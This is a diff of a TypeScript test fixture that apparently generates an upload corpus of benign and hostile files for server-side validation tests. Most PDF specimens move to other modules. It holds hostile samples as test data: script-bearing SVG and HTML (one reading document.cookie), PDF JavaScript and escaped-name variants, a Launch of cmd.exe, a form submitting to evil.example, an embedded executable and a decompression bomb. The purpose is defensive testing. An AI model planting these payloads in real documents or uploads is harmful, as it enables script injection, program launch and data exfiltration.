@@ -1,37 +1,11 @@
 import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { MAX_FILE_BYTES } from '#protocol/files.ts'
-
-/** What the server makes of a file: the kind it stores, or the code of its refusal. */
-export type Verdict = 'image/jpeg' | 'image/png' | 'application/pdf' | 'file.type' | 'file.unreadable'
-
-export interface Specimen {
-  readonly name: string
-  readonly bytes: Buffer
-  readonly verdict: Verdict
-}
-
-const ascii = (text: string): Buffer => Buffer.from(text, 'latin1')
-const join = (...parts: readonly (Buffer | string)[]): Buffer =>
-  Buffer.concat(parts.map((part) => (typeof part === 'string' ? ascii(part) : part)))
+import { documentCorpus } from './document-corpus.ts'
+import { ascii, join, pdf, stream } from './pdf-maker.ts'
+import { html, zip, type Specimen, type Verdict } from './specimen.ts'
 
 const canvas = (width = 32, height = 24) => sharp({ create: { width, height, channels: 3, background: '#2e7d32' } })
-
-/** A PDF of one empty page, with more objects and entries of the catalog. */
-const pdf = (extra: { catalog?: string; objects?: readonly (string | Buffer)[]; trailer?: string } = {}): Buffer =>
-  join(
-    '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n',
-    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''} >>\nendobj\n`,
-    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
-    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
-    ...(extra.objects ?? []),
-    `trailer\n<< /Root 1 0 R ${extra.trailer ?? ''} >>\nstartxref\n0\n%%EOF\n`,
-  )
-
-const stream = (number: number, dictionary: string, content: Buffer): Buffer =>
-  join(`${number} 0 obj\n<< ${dictionary} /Length ${content.length} >>\nstream\n`, content, '\nendstream\nendobj\n')
-
-const action = '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'
 
 /** A PNG whose head promises a size and whose body holds little. */
 const pngOf = (width: number, height: number): Buffer => {
@@ -51,8 +25,6 @@ const pngOf = (width: number, height: number): Buffer => {
   return join('\x89PNG\r\n\x1a\n', chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)))
 }
 
-const zip = join('PK\x03\x04\x14\x00\x00\x00\x00\x00', Buffer.alloc(20), 'a.txt', 'PK\x05\x06', Buffer.alloc(18))
-const html = '<!doctype html><html><script>alert(document.cookie)</script></html>'
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 
 const pictures = async (): Promise<Specimen[]> => {
@@ -96,66 +68,14 @@ const pictures = async (): Promise<Specimen[]> => {
     good('the first bytes of a photo', jpeg.subarray(0, 4), 'file.unreadable'),
     good('a photo of noise', join('\xff\xd8\xff\xe0', Buffer.alloc(400, 7)), 'file.unreadable'),
     good('a picture of noise', join('\x89PNG\r\n\x1a\n', Buffer.alloc(400, 7)), 'file.type'),
-    good('a picture that unfolds to 900 megapixels', pngOf(30_000, 30_000), 'file.unreadable'),
-    good('a picture that unfolds to 4 gigapixels', pngOf(65_000, 65_000), 'file.unreadable'),
+    good('a picture that unfolds to 900 megapixels', pngOf(30_000, 30_000), 'file.pixels'),
+    good('a picture that unfolds to 4 gigapixels', pngOf(65_000, 65_000), 'file.pixels'),
     good('a picture wider than any screen', pngOf(200_000_000, 1), 'file.unreadable'),
     good('a picture without a size', pngOf(0, 0), 'file.unreadable'),
     good('a webp picture', await canvas().webp().toBuffer(), 'file.type'),
     good('a gif', await canvas().gif().toBuffer(), 'file.type'),
     good('a tiff', await canvas().tiff().toBuffer(), 'file.type'),
     good('an avif picture', await canvas().avif().toBuffer(), 'file.type'),
-  ]
-}
-
-const documents = (): Specimen[] => {
-  const packed = (text: string, dictionary = '') =>
-    stream(6, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${dictionary}`, deflateSync(ascii(text)))
-  const good = (name: string, bytes: Buffer): Specimen => ({ name, bytes, verdict: 'application/pdf' })
-  const bad = (name: string, bytes: Buffer, verdict: Verdict = 'file.unreadable'): Specimen => ({ name, bytes, verdict })
-  return [
-    good('a document', pdf()),
-    good('a document of 2.0', Buffer.from(pdf().toString('latin1').replace('1.7', '2.0'), 'latin1')),
-    good('a document that opens on its first page', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })),
-    good('a document with a link', pdf({ objects: ['5 0 obj\n<< /S /URI /URI (https://example.com) >>\nendobj\n'] })),
-    good('a document with packed objects', pdf({ objects: [packed('7 0 << /Type /Font >>')] })),
-    good('a document with a picture', pdf({ objects: [stream(5, '/Subtype /Image', Buffer.alloc(300, 9))] })),
-    good('a document that ends with blank lines', join(pdf(), '\r\n\r\n')),
-    bad('a document with a script', pdf({ objects: [action] })),
-    bad('a document that runs a script when it opens', pdf({ catalog: '/OpenAction 5 0 R', objects: [action] })),
-    bad(
-      'a document with a script under an escaped name',
-      pdf({ objects: ['5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n'] }),
-    ),
-    bad('a document with a script in packed objects', pdf({ objects: [packed('7 0 << /S /JavaScript /JS (app.alert(1)) >>')] })),
-    bad('a document with an escaped script in packed objects', pdf({ objects: [packed('7 0 << /S /#4aavaScript >>')] })),
-    bad(
-      'a document with a script in plain packed objects',
-      pdf({ objects: [stream(6, '/Type /ObjStm /N 1', ascii('7 0 << /JS (x) >>'))] }),
-    ),
-    bad('a document that starts a program', pdf({ objects: ['5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'] })),
-    bad('a document that carries a file', pdf({ objects: [stream(5, '/Type /EmbeddedFile', Buffer.from('MZ'))] })),
-    bad('a document with a list of files', pdf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
-    bad('a document with actions of its own', pdf({ catalog: '/AA << /WC 5 0 R >>' })),
-    bad('a document that sends its form', pdf({ objects: ['5 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'] })),
-    bad('a document with a living form', pdf({ catalog: '/AcroForm << /XFA 5 0 R >>' })),
-    bad('a document with a film', pdf({ objects: ['5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'] })),
-    bad('a document that opens another', pdf({ objects: ['5 0 obj\n<< /S /GoToE >>\nendobj\n'] })),
-    bad('a locked document', pdf({ trailer: '/Encrypt 9 0 R' })),
-    bad(
-      'a document whose packed objects unfold without end',
-      pdf({ objects: [stream(6, '/Type /ObjStm /Filter /FlateDecode', deflateSync(Buffer.alloc(64 * 1024 * 1024)))] }),
-    ),
-    bad(
-      'a document whose packed objects are damaged',
-      pdf({ objects: [stream(6, '/Type /ObjStm /Filter /FlateDecode', Buffer.alloc(50, 1))] }),
-    ),
-    bad('half a document', pdf().subarray(0, 120)),
-    bad('a document with a page behind it', join(pdf(), html)),
-    bad('a document with an archive behind it', join(pdf(), zip)),
-    bad('the head of a document', ascii('%PDF-1.7\n')),
-    bad('a document of no version', join('%PDF-x\n', pdf().subarray(9))),
-    bad('a page with a document in it', join(html, pdf()), 'file.type'),
-    bad('an archive with a document in it', join(zip, pdf()), 'file.type'),
   ]
 }
 
@@ -181,7 +101,7 @@ const others = (): Specimen[] =>
   ).map(([name, content]) => ({ name, bytes: typeof content === 'string' ? ascii(content) : content, verdict: 'file.type' }))
 
 /** Files people and attackers upload, each with what must become of it. */
-export const uploadCorpus = async (): Promise<readonly Specimen[]> => [...(await pictures()), ...documents(), ...others()]
+export const uploadCorpus = async (): Promise<readonly Specimen[]> => [...(await pictures()), ...(await documentCorpus()), ...others()]
 
 /** A document of exactly so many bytes. */
 export const pdfOf = (size: number): Buffer => {
